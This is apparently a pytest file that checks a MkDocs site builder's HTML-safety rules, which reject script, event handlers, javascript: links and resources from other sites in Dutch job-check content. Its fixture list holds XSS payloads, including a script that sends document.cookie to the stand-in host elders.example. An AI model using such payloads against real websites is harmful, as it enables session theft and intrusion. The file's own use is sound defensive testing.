"""The policy is ours, not the content's: raw HTML in checks and pages that could run script or load
from another site fails the build with file, line and what to do; titles are shown as text."""

from __future__ import annotations

from pathlib import Path

import markdown
import pytest
from mkdocs.exceptions import Abort, PluginError

from careercheck.format.loader import load_check
from careercheck.html_safety import line_of, unsafe_html
from careercheck.problems import ProblemsFound
from careercheck.site.build import build_site
from careercheck.site.csp import hashes_allowed_by, script_hashes, with_policy
from test_build import copy_project
from test_loader import VALID
from test_sites import _brand_config

HOSTILE = {
    "script": "<script>fetch('https://elders.example/?' + document.cookie)</script>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "event handler": '<img src="img/logo.svg" onerror="alert(1)">',
    "event handler, any case": '<p ONMOUSEOVER="alert(1)">tekst</p>',
    "javascript link (Markdown)": "[Klik hier](javascript:alert(1))",
    "javascript link, hidden by an entity": '<a href="java&#x09;script:alert(1)">x</a>',
    "data page link": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "meta refresh": '<meta http-equiv="refresh" content="0; url=https://elders.example/">',
    "iframe": '<iframe src="https://elders.example/"></iframe>',
    "object": '<object data="x.swf"></object>',
    "embed": '<embed src="x.swf">',
    "base": '<base href="https://elders.example/">',
    "stylesheet": '<link rel="stylesheet" href="https://elders.example/s.css">',
    "form": '<form action="https://elders.example/"><input name="a"></form>',
    "foreign picture (Markdown)": "![Logo](https://elders.example/pixel.png)",
    "foreign picture, protocol-relative": '<img src="//elders.example/pixel.png" alt="">',
    "foreign picture in a srcset": '<img src="a.png" srcset="a.png 1x, https://elders.example/b.png 2x" alt="">',
    "foreign video poster": '<video src="film.mp4" poster="http://elders.example/p.jpg"></video>',
    "foreign audio": '<audio src="https://elders.example/a.mp3"></audio>',
}
SAFE = {
    "outbound link": "Kijk op [uwv.nl](https://www.uwv.nl/).",
    "mail link": "[Mail ons](mailto:info@example.org)",
    "own picture": "![Logo](img/logo.svg)",
    "inline picture": '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    "markup": "<details><summary>Meer</summary><em>nadruk</em><br><table><tr><td>1</td></tr></table></details>",
    "a word like 'online'": "Je kunt online solliciteren: <span>on</span>",
}


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_html_is_found(html: str) -> None:
    found = unsafe_html(markdown.markdown(html))
    assert found, html
    assert all("; " in unsafe.what for unsafe in found)  # what is wrong; what to do


@pytest.mark.parametrize("html", SAFE.values(), ids=SAFE.keys())
def test_ordinary_html_and_outbound_links_pass(html: str) -> None:
    assert unsafe_html(markdown.markdown(html)) == []


def test_the_line_is_found_in_the_source() -> None:
    source = "---\ntitle: T\n---\n\nTekst.\n\n<IFRAME src=x>\n"
    (unsafe,) = unsafe_html(markdown.markdown(source.split("---\n", 2)[2]))
    assert line_of(source, unsafe.needle) == 7


def test_a_check_with_a_script_in_its_intro_or_a_foreign_picture_in_a_label_fails_with_file_and_line(tmp_path: Path) -> None:
    path = tmp_path / "kapot.yml"
    text = VALID.replace("intro: Intro.", 'intro: "Hallo <script>alert(1)</script>"')
    text = text.replace("label: Vraag twee.", "label: {nl: 'Twee ![x](https://elders.example/p.png)'}")
    path.write_text(text)
    with pytest.raises(ProblemsFound) as found:
        load_check(path)
    messages = [str(problem) for problem in found.value.problems]
    assert any(m.startswith(f"{path}:4:8: <script>") for m in messages), messages
    assert any(m.startswith(f"{path}:25:") and "would load from another site" in m for m in messages), messages


def test_only_the_themes_inline_scripts_get_a_hash() -> None:
    content = "<p>x</p><script>alert(1)</script>"
    page = f"<html><head><script>theme()</script></head><body>{content}</body></html>"
    allowed = hashes_allowed_by(with_policy(page, content))
    assert allowed == script_hashes("<script>theme()</script>")
    assert not allowed & script_hashes(content)


def test_titles_are_shown_as_text_wherever_the_theme_shows_them(tmp_path: Path) -> None:
    project = copy_project(tmp_path)
    (project / "docs/zorg.md").write_text('---\ntitle: "Zorg & <em>welzijn</em>"\n---\n\nTekst.\n')
    (project / "docs/kok.md").write_text("# Kok & bakker\n\nTekst.\n")
    # Entities in a heading are text; the theme's striptags would turn them into a live tag.
    (project / "docs/sluw.md").write_text("# &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;\n\nTekst.\n")
    site = build_site(project / "mkdocs.yml")

    pages = {name: (site / name / "index.html").read_text() for name in ("zorg", "kok", "sluw")}
    assert "<title>Zorg &amp; &lt;em&gt;welzijn&lt;/em&gt; - " in pages["zorg"]
    assert "<title>Kok &amp; bakker - " in pages["kok"]
    assert "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; - " in pages["sluw"]
    for html in [*pages.values(), (site / "index.html").read_text()]:
        assert "<script>alert(1)" not in html and "<em>welzijn" not in html
        assert "&amp;amp;" not in html  # escaped once, not twice


def test_a_picture_from_another_site_in_a_check_fails_with_file_and_line(tmp_path: Path) -> None:
    path = tmp_path / "kapot.yml"
    path.write_text(VALID.replace("label: Vraag twee.", "label: Twee, image: {src: 'https://elders.example/p.png', alt: Twee}"))
    with pytest.raises(ProblemsFound) as found:
        load_check(path)
    assert str(found.value).startswith(f"{path}:25:") and "is on another site; put the file in docs/" in str(found.value)


def test_a_brand_logo_from_another_site_does_not_build(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    config = _brand_config(tmp_path, '{primary: "#1b5e20", on_primary: "#ffffff"}')
    config.write_text(config.read_text().replace("logo: img/logo.svg", "logo: https://elders.example/logo.svg"))
    with pytest.raises((PluginError, Abort)) as failed:
        build_site(config, tmp_path / "site")
    assert "brand.logo 'https://elders.example/logo.svg' is on another site" in str(failed.value) + caplog.text
    assert not (tmp_path / "site").exists()
